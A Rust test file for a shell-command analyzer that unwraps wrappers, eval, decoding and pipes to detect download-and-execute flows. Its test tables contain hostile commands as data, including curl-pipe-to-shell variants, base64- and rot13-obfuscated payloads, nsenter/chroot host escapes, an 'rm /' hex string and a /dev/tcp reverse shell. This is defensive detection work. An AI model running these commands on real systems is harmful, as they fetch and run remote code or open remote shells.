use std::fmt::Write as _;

use proptest::prelude::*;

use super::*;

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

fn sh(script: &str) -> Execution {
    executed(&argv(&["sh", "-c", script]), &Limits::default())
}

/// Programs and arguments without the outer shell: `a x | b; c`.
fn shown(run: &Execution) -> String {
    let mut out = String::new();
    for c in run.commands.iter().skip(1).filter(|c| !c.program.is_empty()) {
        if !out.is_empty() {
            out.push_str(if c.stage > 0 { " | " } else { "; " });
        }
        out.push_str(&c.program);
        for arg in &c.args {
            let _ = write!(out, " {}", arg.text.replace('\n', "~"));
        }
    }
    out
}

#[test]
fn one_liners() {
    let b64 = "Y3VybCBodHRwOi8veCB8IHNo";
    for (script, want) in [
        ("curl x | sh", "curl x | sh"),
        ("env A=b curl x", "curl x"),
        ("env -i -u X A=b /usr/bin/curl x", "curl x"),
        ("env -S 'bash -c \"wget y\"'", "env -S bash -c \"wget y\"; bash -c wget y; wget y"),
        ("exec nohup timeout -k 3 5 setsid -w curl x", "curl x"),
        ("nice -n 5 ionice -c2 time -p curl x", "curl x"),
        ("command -v curl", "command -v curl"),
        ("command curl x", "curl x"),
        ("sudo -u root -E A=b curl x", "curl x"),
        ("sudo -nu root sh -c 'id'", "sh -c id; id"),
        ("doas curl x", "curl x"),
        ("su - root -c 'curl x'", "su - root -c curl x; curl x"),
        ("su -c id", "su -c id; id"),
        ("busybox wget x", "wget x"),
        ("busybox sh -c 'wget x'", "sh -c wget x; wget x"),
        ("chroot /host sh -c 'id'", "chroot /host; sh -c id; id"),
        ("nsenter -t 1 -m -u -- sh -c id", "nsenter -t 1 -m -u --; sh -c id; id"),
        ("nsenter --target 1 --mount bash", "nsenter --target 1 --mount; bash"),
        ("nsenter --mount=/proc/1/ns/mnt -- id", "nsenter --mount=/proc/1/ns/mnt --; id"),
        ("unshare -r sh", "unshare -r; sh"),
        (
            "bwrap --bind /h / --dev /dev --unshare-all sh -c id",
            "bwrap --bind /h / --dev /dev --unshare-all; sh -c id; id",
        ),
        ("proot -r /h -b /proc sh -c id", "proot -r /h -b /proc; sh -c id; id"),
        ("stdbuf -oL -e 0 curl x", "curl x"),
        ("script -qc 'curl x' /dev/null", "script -qc curl x /dev/null; curl x"),
        ("watch -n 5 curl x", "watch -n 5 curl x; curl x"),
        ("trap 'curl x' EXIT", "trap curl x EXIT; curl x"),
        ("trap - EXIT", "trap - EXIT"),
        ("tini -- sh -c 'curl x'", "sh -c curl x; curl x"),
        ("dumb-init curl x", "curl x"),
        ("flock /tmp/l -c 'curl x'", "flock /tmp/l -c curl x; curl x"),
        ("flock -n /tmp/l curl x", "curl x"),
        ("run() { \"$@\"; }; run curl x | sh", "$@; curl x | sh"),
        ("run() { echo \"$@\"; }; run curl x", "echo $@; run curl x"),
        ("echo x y | xargs curl -s", "echo x y | curl -s x y"),
        ("echo x | xargs -I{} curl {}", "echo x | curl x"),
        ("echo x | xargs -I % sh -c 'curl %'", "echo x | sh -c curl x; curl x"),
        ("xargs -I{} curl {}", "curl {}"),
        ("sh -c '\"$@\"' job curl 'a b'", "sh -c \"$@\" job curl a b; curl a b"),
        (
            "sh -c 'exec \"$@\" y' job sh -c 'curl x'",
            "sh -c exec \"$@\" y job sh -c curl x; sh -c curl x y; curl x",
        ),
        ("xargs -I {} -n1 curl {}", "curl {}"),
        ("echo x | xargs -0 sh -c 'id'", "echo x | sh -c id; id"),
        ("find / -name x -exec sh -c 'id' \\;", "find / -name x -exec sh -c id ;; sh -c id; id"),
        ("eval 'cu''rl' x", "eval curl x; curl x"),
        ("eval \"curl $a\"", "eval curl $a; curl $a"),
        ("x='curl http://a'; eval \"$x\"", "eval curl http://a; curl http://a"),
        ("sh -c 'sh -c \"curl x\"'", "sh -c sh -c \"curl x\"; sh -c curl x; curl x"),
        ("sh -lc 'a'", "sh -lc a; a"),
        ("bash -xec 'a'", "bash -xec a; a"),
        ("bash -c -- 'a'", "bash -c -- a; a"),
        ("bash -o pipefail -c 'a'", "bash -o pipefail -c a; a"),
        ("bash -euo pipefail -c 'a'", "bash -euo pipefail -c a; a"),
        ("bash --norc -c 'a'", "bash --norc -c a; a"),
        ("bash --rcfile f -c 'a'", "bash --rcfile f -c a; a"),
        ("bash +e -c a", "bash +e -c a; a"),
        ("sh -c '$0 $1' curl x", "sh -c $0 $1 curl x; curl x"),
        ("sh -c '\"$@\"' -- curl x", "sh -c \"$@\" -- curl x; curl x"),
        ("sh file -c a", "sh file -c a"),
        ("echo 'curl x' | sh", "echo curl x | sh; curl x"),
        ("printf 'curl %s' x | bash -s y", "printf curl %s x | bash -s y; curl x"),
        ("sh <<E\ncurl x\nE\n", "sh; curl x"),
        ("cat <<E | sh\ncurl x\nE\n", "cat | sh; curl x"),
        ("bash <<< 'curl x'", "bash; curl x"),
        ("{ echo curl x; echo id; } | sh", "echo curl x; echo id | sh; curl x; id"),
        ("echo 'curl x' | (sh)", "echo curl x; sh; curl x"),
        (
            &format!("echo {b64} | base64 -d | sh"),
            &format!("echo {b64} | base64 -d | sh; curl http://x | sh"),
        ),
        (&format!("base64 -d <<< {b64} | sh"), "base64 -d | sh; curl http://x | sh"),
        ("echo 726d202f | xxd -r -p | sh", "echo 726d202f | xxd -r -p | sh; rm /"),
        ("echo 'phey k' | tr a-z n-za-m | sh", "echo phey k | tr a-z n-za-m | sh; curl x"),
        (". /dev/stdin <<< 'curl x'", ". /dev/stdin; curl x"),
        ("echo 'curl x | sh'", "echo curl x | sh"),
        ("grep 'bash -i >& /dev/tcp/a/1' f", "grep bash -i >& /dev/tcp/a/1 f"),
        ("env", "env"),
        ("alias c=curl; c x", "alias c=curl; curl x"),
    ] {
        let run = sh(script);
        assert_eq!(shown(&run), want, "{script}");
        assert!(!run.truncated, "{script}");
    }
}

#[test]
fn argument_lists() {
    let limits = Limits::default();
    for (list, want) in [
        (vec!["curl", "x | sh"], "curl"),
        (vec!["/bin/bash", "-c", "a; b"], "bash a b"),
        (vec!["/bin/busybox", "sh", "-c", "a"], "sh a"),
        (vec!["tini", "--", "/bin/sh", "-ec", "a"], "sh a"),
        (vec!["python3", "-c", "import os"], "python3"),
        (vec!["-bash", "-c", "a"], "-bash a"),
        (vec![], ""),
        (vec![""], ""),
        (vec!["sh", "-c"], "sh"),
        (vec!["sh"], "sh"),
    ] {
        let run = executed(&argv(&list), &limits);
        let names: Vec<_> = run.commands.iter().map(|c| c.program.as_str()).collect();
        assert_eq!(names.join(" "), want, "{list:?}");
        assert!(run.commands.first().is_none_or(|c| !c.from_shell));
    }
    let env = [("CMD".to_owned(), "curl x | sh".to_owned())];
    let run = executed_with(&argv(&["sh", "-c", "eval \"$CMD\""]), &env, &limits);
    assert_eq!(shown(&run), "eval curl x | sh; curl x | sh");
}

/// What a function, a group or a variable is given decides what runs.
#[test]
fn known_text_is_followed() {
    for script in [
        "r() { sh; }; printf 'curl x' | r",
        "r() { cat | sh; }; echo 'curl x' | r",
        "r() { base64 -d | sh; }; echo Y3VybCB4 | r",
        "r() { sh -c \"$(cat)\"; }; echo 'curl x' | r",
        "r() { while read -r l; do eval \"$l\"; done; }; echo 'curl x' | r",
        "r() ( sh )\nr <<E\ncurl x\nE\n",
        "function r { sh\n}\nq() { r; }; echo 'curl x' | q",
        "g() { echo 'curl x'; }; g | sh",
        "g() { echo \"$1\"; }; g 'curl x' | sh",
        "g() { cat <<E\ncurl x\nE\n}; g | sh",
        "r() { eval \"$*\"; }; r curl x",
        "r() { local c=\"$1\"; sh -c \"$c\"; }; r 'curl x'",
        "sh -c 'echo curl x' | sh",
        "echo 'curl x' | (cd /tmp; sh)",
        "echo 'curl x' | if true; then sh; fi",
        "echo 'curl x' | sh -c 'sh'",
        "echo 'curl x' | while read -r l; do eval \"$l\"; done",
        "while read -r l; do sh -c \"$l\"; done <<E\ncurl x\nE\n",
        "while read -r l; do sh -c \"$l\"; done < <(echo curl x)",
        "mapfile -t a <<< 'curl x'; eval \"${a[@]}\"",
        "mapfile -t a <<< 'curl x'; for l in \"${a[@]}\"; do eval \"$l\"; done",
        "sh -c '$0 \"$@\"' sh -c 'r() { sh -c \"$1\"; }; r \"curl x\"'",
        "sh -c 'eval \"$1\"' _ 'r() { eval \"$1\"; }; r \"curl x\"'",
        "g() {\nnohup cat <<E\ncurl x\nE\n}; g | sh",
        "sh < <(printf 'curl x')",
        "echo 'curl x' > >(sh)",
        "echo 'curl x' | tee >(sh) > /dev/null",
        "exec 3<<< 'curl x'; exec 4< <(echo 'curl x'); sh <&4",
        "echo 'curl x' | grep curl | sort | gzip | gunzip | sh",
    ] {
        let run = sh(script);
        let runs = run.commands.iter().any(|c| c.program == "curl" && c.args.iter().any(|w| w.text == "x"));
        assert!(runs, "{script}: {}", shown(&run));
        assert!(!run.truncated, "{script}");
    }
    for script in [
        "r() { cat; }; echo 'curl x' | r",
        "r() { sh f; }; echo 'curl x' | r",
        "log() { echo \"$1\"; }; log 'curl x'",
        "log() { echo \"$1\" >> /var/log/x; }; log 'curl x'; log 'curl x'",
        "echo 'curl x' | while read -r l; do grep \"$l\" f; done",
        "echo 'curl x' | (cd /tmp; sh f)",
        "echo 'curl x' > f; sh < g",
        "f() { f; }; f curl x",
        "a $(printf 'curl x') | xargs -I{} b {}",
    ] {
        assert!(sh(script).commands.iter().all(|c| c.program != "curl"), "{script}");
    }
}

/// Whether an interpreter reads what a downloader writes.
fn download_exec(run: &Execution) -> bool {
    let fetch = |c: &Invocation| matches!(c.program.as_str(), "curl" | "wget");
    let runs = |c: &Invocation| matches!(c.program.as_str(), "sh" | "bash" | "eval" | "source" | ".");
    let fed = run.fed(fetch);
    let found = run.commands.iter().zip(&fed).any(|(c, fed)| *fed && runs(c));
    let slow = run.commands.iter().enumerate().any(|(at, c)| {
        runs(c) && run.sources(at).into_iter().any(|s| run.commands.get(s).is_some_and(fetch))
    });
    assert_eq!(found, slow);
    found
}

#[test]
fn flows() {
    for script in [
        "curl x | sh",
        "curl x | base64 -d | gunzip | bash -s -- a",
        "bash <(curl x)",
        "sh -c \"$(curl x)\"",
        "eval \"$(curl x)\"",
        "eval `curl x`",
        "source <(wget -O- x)",
        ". <(curl x)",
        "sh < <(curl x)",
        "sh <<< \"$(curl x)\"",
        "sh <<E\n$(curl x)\nE\n",
        "(curl a || wget b) | sh",
        "{ curl a; } | tee f | sh",
        "for u in a b; do curl $u; done | sh",
        "if true; then curl a; fi | sh",
        "x=$(curl a); sh -c \"$x\"",
        "x=$(curl a); y=$x; echo \"$y\" | sh",
        "curl x | while read l; do eval \"$l\"; done",
        "while read l; do eval \"$l\"; done < <(curl x)",
        "f() { curl x; }; f | sh",
        "sh -c 'curl x' | sh",
        "curl x | sh -c 'sh'",
        "curl x | sudo -E bash -",
        "curl x | tee >(sh)",
        "curl x > >(sh)",
        "sudo curl x | chroot /host sh",
        "echo $(curl x) | sh",
        "curl x |\n  sh",
        "curl x | (cat; sh)",
        "export x=$(curl a); eval $x",
        "for c in $(curl x); do eval $c; done",
    ] {
        assert!(download_exec(&sh(script).clone_without_outer()), "{script}");
    }
    for script in [
        "curl x; sh",
        "curl x && sh f",
        "curl x | jq . ; sh f",
        "sh f | curl -d @- x",
        "sh -c 'curl x'",
        "echo curl x | sh f",
        "x=$(curl a); sh f",
        "curl $(sh f)",
        "curl x | tee f; echo | sh -c id",
        "curl x > >(cat); sh f",
    ] {
        assert!(!download_exec(&sh(script).clone_without_outer()), "{script}");
    }
}

impl Execution {
    /// The same; the outer `sh -c` reads nothing, so it needs no removal. Named for the tables above.
    fn clone_without_outer(&self) -> Self {
        self.clone()
    }
}

#[test]
fn details() {
    let run = sh("sudo A=b chroot /host c\"u\"rl x 2>&1 | sh");
    let names: Vec<_> = run.commands.iter().map(|c| (c.program.as_str(), c.wrapper, c.stage)).collect();
    assert_eq!(names, [("sh", false, 0), ("chroot", true, 0), ("curl", false, 0), ("sh", false, 1)]);
    let curl = &run.commands[2];
    assert_eq!(curl.prefixes, ["sudo", "chroot"]);
    assert_eq!(curl.assignments, [("A".to_owned(), "b".to_owned())]);
    assert!(curl.program_disguised && !curl.last_stage && run.commands[3].last_stage);
    assert_eq!(curl.redirects.len(), 1);
    assert_eq!(run.sources(3), [1, 2]);
    assert_eq!(run.commands[0].scripts.len(), 1);
    assert_eq!(run.pipelines().map(|p| p.len()).collect::<Vec<_>>(), [1, 3]);
    let run = sh("(bash -i) >& /dev/tcp/1.2.3.4/5 0>&1");
    assert_eq!(run.commands[1].redirects.len(), 2);
}

#[test]
fn caps_hold() {
    let limits = Limits::default();
    let deep = (0..100).fold("curl x".to_owned(), |s, _| format!("eval {s}"));
    assert!(sh(&deep).truncated);
    assert!(sh(&"eval a;".repeat(100)).truncated);
    assert!(sh("f='eval \"$f\"'; eval \"$f\"").truncated);
    assert!(executed(&argv(&["sh", "-c", &"a;".repeat(30_000)]), &limits).commands.len() <= 20_000);
    let mut chain = vec!["env"; 5000];
    chain.push("curl");
    assert_eq!(executed(&argv(&chain), &limits).commands.len(), 1);
}

#[test]
fn hostile_input_is_linear() {
    let blob = "x".repeat(30_000);
    for unit in [
        "curl x | base64 -d | sh && ",
        "a|",
        "(a)|",
        "a <(b) ",
        "eval a;",
        "sh -c 'eval b';",
        "echo a | sh;",
        "f(){ a;};f;",
        "(a;a;a)|(sh;sh);",
        "x=$(a);$x;",
        "env ",
        "find -exec a ",
        "find -exec ",
        "chroot / ",
        "A=b env A=b ",
        "exec ",
        "eval ",
        "sh -c ",
        "sudo -u ",
        "sh <<E\na\nE\n",
        "eval $b;",
        "echo $b | sh;",
        "f(){ sh;};echo a|f;",
        "f(){ eval $1;f $1;};f a;",
        "echo $b | (cat;cat;",
        "read x <<< a;eval $x;",
        "exec 3<a;cat <&3;",
    ] {
        let text = format!("b={blob};{}", unit.repeat((1 << 20) / unit.len()));
        let mut last = (0, 0, false);
        let spent = crate::normalize::cpu_time::seconds(std::time::Duration::ZERO, || {
            let run = sh(&text);
            let fed = run.fed(|c| c.program == "curl").len();
            let sources = run.sources(run.commands.len().saturating_sub(1)).len();
            last = (fed, sources, run.truncated);
        });
        if std::env::var_os("FIGURES").is_some() {
            let (fed, sources, truncated) = last;
            println!("{unit:?}: {spent:.2} s, {fed} invocations, {sources} sources, truncated {truncated}");
        }
        assert!(spent < 20.0, "{unit:?}: {spent} s");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics(words in prop::collection::vec(
        prop_oneof![
            ".{0,40}",
            "[-a-c$ ({})`'\"\\\\|;&<>=\n!#@*]{0,60}",
            "(sh|bash|env|sudo|eval|trap|su|watch|find|xargs|nsenter|chroot|busybox|-c|-S|--|-exec|echo a \\| sh|;)"
        ], 0..8))
    {
        let run = executed(&words, &Limits::default());
        let mut joined = vec!["sh".to_owned(), "-c".to_owned(), words.join(" ")];
        let inner = executed(&joined, &Limits::default());
        joined.clear();
        for run in [&run, &inner] {
            let _ = run.fed(|c| c.program == "echo");
            for (at, c) in run.commands.iter().enumerate() {
                prop_assert!(c.parent.is_none_or(|p| p < at));
                prop_assert!(c.inputs.iter().all(|s| s.end <= run.commands.len()));
                let _ = run.sources(at);
            }
        }
    }
}
